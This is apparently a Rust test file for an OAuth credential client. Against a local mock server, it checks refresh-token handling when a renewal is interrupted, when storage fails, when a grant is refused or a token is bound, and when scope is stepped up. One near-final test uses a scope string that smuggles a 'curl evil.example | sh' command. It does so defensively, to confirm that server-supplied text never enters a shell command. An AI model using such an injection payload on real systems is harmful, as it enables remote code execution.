//! Over an authorization server of the tests' own: what becomes of the refresh token when something fails halfway.

use std::{
    path::PathBuf,
    sync::{Mutex, PoisonError},
};

use axum::{Router, extract::State, http::StatusCode, response::IntoResponse as _};
use bailiwick_runtime::Shutdown;
use serde_json::json;
use tempfile::TempDir;
use tokio::{
    net::TcpListener,
    sync::{Notify, Semaphore},
    task::JoinSet,
};

use super::*;
use crate::{keeping::KeyStore, possession::DpopKey, sign_in::person::Reach, target::McpUrl};

/// Answers every request alike, once it may.
struct Server {
    answer: Mutex<(u16, String)>,
    asked: Mutex<Vec<String>>,
    heard: Notify,
    may_answer: Semaphore,
}

struct World {
    folder: TempDir,
    server: Arc<Server>,
    stop: Shutdown,
    credentials: Arc<Credentials>,
    kept: Kept,
    _task: JoinSet<()>,
}

async fn answer(State(server): State<Arc<Server>>, request: axum::extract::Request) -> axum::response::Response {
    server.asked.lock().unwrap().push(request.uri().path().to_owned());
    server.heard.notify_one();
    server.may_answer.acquire().await.unwrap().forget();
    let (status, body) = server.answer.lock().unwrap_or_else(PoisonError::into_inner).clone();
    (StatusCode::from_u16(status).unwrap(), body).into_response()
}

impl World {
    /// With a refresh token `r-1`; `answers` requests may be answered at once.
    async fn start(answers: usize) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let server = Arc::new(Server {
            answer: Mutex::new((200, String::new())),
            asked: Mutex::default(),
            heard: Notify::new(),
            may_answer: Semaphore::new(answers),
        });
        let app = Router::new().fallback(answer).with_state(Arc::clone(&server));
        let mut task = JoinSet::new();
        task.spawn(async move { drop(axum::serve(listener, app).await) });
        let folder = tempfile::tempdir().unwrap();
        let url = McpUrl::parse(&format!("{base}/mcp")).unwrap();
        let wish = Wish { url, client_id: None, scope: None, binding: Binding::Auto };
        let keys = folder.path().join("connect");
        let keeper = Keeper::open(KeyStore::File, &keys, &wish, false).await.unwrap();
        let kept = Kept {
            resource: wish.url.resource().to_owned(),
            issuer: base.clone(),
            token_endpoint: format!("{base}/token"),
            client_id: "c".to_owned(),
            registered: true,
            refresh_token: Some(Zeroizing::new("r-1".to_owned())),
            ..Kept::default()
        };
        keeper.save(&kept).await.unwrap();
        let person = Person { reach: Reach { browser: false, terminal: false }, command: "sign in".to_owned() };
        let stop = Shutdown::new();
        let web = Web::that_waits(Duration::from_secs(10)).unwrap();
        let credentials = Credentials::new(web, wish, person, keeper, keys, Supervisor::new(stop.clone()));
        Self { folder, server, stop, credentials, kept, _task: task }
    }

    fn says(&self, status: u16, body: &serde_json::Value) {
        *self.server.answer.lock().unwrap() = (status, body.to_string());
    }

    fn grants(&self, refresh_token: &str) {
        self.says(200, &json!({"access_token": "t", "token_type": "Bearer", "refresh_token": refresh_token}));
    }

    fn asked(&self) -> usize {
        self.server.asked.lock().unwrap().len()
    }

    fn path(&self, end: &str) -> PathBuf {
        self.folder.path().join("connect").join(format!("{}.{end}", self.credentials.keeper.name()))
    }

    async fn refresh_token(&self) -> Option<String> {
        self.credentials.keeper.load().await.unwrap().refresh_token.map(|token| token.to_string())
    }
}

#[tokio::test]
async fn a_stop_during_a_renewal_loses_no_refresh_token() {
    let world = World::start(0).await;
    world.grants("r-2");
    let mut renewal = Box::pin(world.credentials.token());
    tokio::select! {
        _ = &mut renewal => panic!("nobody has answered"),
        () = world.server.heard.notified() => {}
    }
    world.stop.request();
    drop(renewal);
    let settled = world.credentials.settled();
    world.server.may_answer.add_permits(1);
    settled.await;
    assert_eq!(world.refresh_token().await.as_deref(), Some("r-2"));
    let refused = world.credentials.token().await.unwrap_err();
    assert_eq!((refused, world.asked()), (Fault::Stopping, 1), "nothing is begun after a stop");
}

#[tokio::test]
async fn what_cannot_be_kept_goes_on_in_memory() {
    let world = World::start(9).await;
    world.grants("r-2");
    std::fs::create_dir(world.path("partial")).unwrap();
    let held = world.credentials.token().await.unwrap();
    assert!(!world.path("json").exists(), "what is used up is not left for others to use again");
    assert!(matches!(world.credentials.sign_in().await, Err(Fault::Keeping(_))), "the next start has nothing");
    // The next one is got with the successor, and kept once that is possible.
    std::fs::remove_dir(world.path("partial")).unwrap();
    world.grants("r-3");
    world.credentials.renewed(&held).await.unwrap();
    assert_eq!(world.refresh_token().await.as_deref(), Some("r-3"));
    world.credentials.sign_in().await.unwrap();
}

#[tokio::test]
async fn only_a_refused_grant_is_forgotten() {
    let world = World::start(9).await;
    for (status, word) in [(503, "invalid_grant"), (429, "invalid_grant"), (502, "x")] {
        world.says(status, &json!({"error": word}));
        let fault = world.credentials.token().await.unwrap_err();
        assert!(matches!(fault, Fault::Unreachable { .. }), "{status} {word}: {fault}");
        assert!(world.refresh_token().await.is_some(), "{status} {word}");
    }
    for (word, is_kept, is_registered) in
        [("invalid_target", true, true), ("invalid_client", true, false), ("invalid_grant", false, true)]
    {
        world.credentials.keeper.save(&world.kept).await.unwrap();
        world.says(400, &json!({"error": word}));
        let fault = world.credentials.token().await.unwrap_err();
        assert!(matches!(fault, Fault::SignInFirst { .. }), "{word}: {fault}");
        let kept = world.credentials.keeper.load().await.unwrap();
        assert_eq!((kept.refresh_token.is_some(), kept.registered), (is_kept, is_registered), "{word}");
    }
}

#[tokio::test]
async fn what_was_bound_once_is_not_taken_unbound() {
    let world = World::start(9).await;
    let bound = Kept { is_bound: true, ..world.kept.clone() };
    world.credentials.keeper.save(&bound).await.unwrap();
    world.grants("r-2");
    let fault = world.credentials.token().await.unwrap_err();
    assert!(matches!(&fault, Fault::Answer { .. }), "{fault}");
    assert!(world.credentials.present.lock().await.held.is_none());
}

#[tokio::test]
async fn a_key_that_was_kept_before_is_as_good_as_the_word_that_it_was_bound() {
    let world = World::start(9).await;
    let dpop_key = Some(DpopKey::generate().unwrap());
    world.credentials.keeper.save(&Kept { dpop_key, ..world.kept.clone() }).await.unwrap();
    world.grants("r-2");
    let fault = world.credentials.token().await.unwrap_err();
    assert!(matches!(&fault, Fault::Answer { .. }), "{fault}");
    assert!(world.credentials.present.lock().await.held.is_none());
    assert_eq!(world.refresh_token().await.as_deref(), Some("r-1"), "nothing of it is kept");
}

#[tokio::test]
async fn a_token_that_is_bound_at_a_renewal_was_bound_once() {
    let world = World::start(9).await;
    world.says(
        200,
        &json!({
            "access_token": "t", "token_type": "Bearer", "refresh_token": "r-2",
            "binding_alg": "aes-256-gcm", "binding_key": "A".repeat(43),
        }),
    );
    let held = world.credentials.token().await.unwrap();
    assert!(matches!(held.bound, Bound::Envelope(_)) && world.credentials.keeper.load().await.unwrap().is_bound);
    world.grants("r-3");
    let fault = world.credentials.renewed(&held).await.unwrap_err();
    assert!(matches!(&fault, Fault::Answer { .. }), "{fault}");
    assert_eq!(world.refresh_token().await.as_deref(), Some("r-2"));
}

#[tokio::test]
async fn where_nobody_can_be_asked_no_server_hears_of_it() {
    let world = World::start(9).await;
    world.credentials.keeper.forget().await.unwrap();
    for _ in 0..2 {
        let fault = world.credentials.token().await.unwrap_err();
        assert!(matches!(fault, Fault::SignInFirst { .. }), "{fault}");
    }
    assert_eq!(world.asked(), 0, "nothing is registered, and nothing looked up");
    assert!(world.credentials.present.lock().await.failed.is_some());
}

#[tokio::test]
async fn a_sign_out_deletes_what_cannot_be_read() {
    let world = World::start(9).await;
    std::fs::write(world.path("json"), "nonsense").unwrap();
    assert_eq!(world.credentials.forget().await, Err(Fault::NotTakenBack));
    assert!(!world.path("json").exists());
    assert_eq!(world.credentials.forget().await, Ok(false));
}

#[tokio::test]
async fn more_scope_that_another_bridge_has_got_is_taken_over() {
    let world = World::start(9).await;
    world.grants("r-2");
    let narrow = Kept { scope: Some("a".to_owned()), ..world.kept.clone() };
    world.credentials.keeper.save(&narrow).await.unwrap();
    let held = world.credentials.token().await.unwrap();
    let refused = world.credentials.step_up(&held, "b").await.unwrap_err();
    assert!(matches!(&refused, Fault::ScopeRefused { scope, .. } if scope == "a b"), "nobody can be asked: {refused}");
    let wide = Kept { scope: Some("b a".to_owned()), ..world.kept.clone() };
    world.credentials.keeper.save(&wide).await.unwrap();
    world.says(200, &json!({"access_token": "wide", "token_type": "Bearer"}));
    let wider = world.credentials.step_up(&held, "b").await.unwrap().expect("it is had by the refresh token");
    assert_eq!((wider.access_token.as_str(), world.asked()), ("wide", 2));
    // Whoever was refused with the token before gets the same, with nobody asked.
    let same = world.credentials.step_up(&held, "b").await.unwrap().unwrap();
    assert_eq!((same.access_token.as_str(), world.asked()), ("wide", 2));
    assert!(world.credentials.step_up(&wider, "b").await.unwrap().is_none(), "there is no more to be had");
}

#[tokio::test]
async fn no_words_of_a_server_but_names_of_scopes_get_into_a_command() {
    const SCOPE: &str = "a '!';curl${IFS}evil.example|sh;'";
    for is_kept in [true, false] {
        let world = World::start(9).await;
        let scope = is_kept.then(|| SCOPE.to_owned());
        world.credentials.keeper.save(&Kept { scope, ..world.kept.clone() }).await.unwrap();
        let mut said = json!({"access_token": "t", "token_type": "Bearer", "refresh_token": "r-2"});
        if !is_kept {
            said["scope"] = json!(SCOPE);
        }
        world.says(200, &said);
        let held = world.credentials.token().await.unwrap();
        let refused = world.credentials.step_up(&held, "b").await.unwrap_err().to_string();
        assert!(refused.contains("--scope 'a b'") && !refused.contains("curl"), "{refused}");
        let kept = world.credentials.keeper.load().await.unwrap();
        assert_eq!(kept.scope.as_deref(), Some(if is_kept { SCOPE } else { "a" }));
    }
}

#[tokio::test]
async fn a_scope_that_had_to_be_cut_gets_into_no_command() {
    let world = World::start(9).await;
    let long: Vec<String> = (0..20).map(|n| format!("scope:{n:0>20}")).collect();
    world.credentials.keeper.save(&Kept { scope: Some(long.join(" ")), ..world.kept.clone() }).await.unwrap();
    world.grants("r-2");
    let held = world.credentials.token().await.unwrap();
    let refused = world.credentials.step_up(&held, "b").await.unwrap_err().to_string();
    assert!(refused.contains("a --scope that has all of it") && !refused.contains("--scope '"), "{refused}");
}
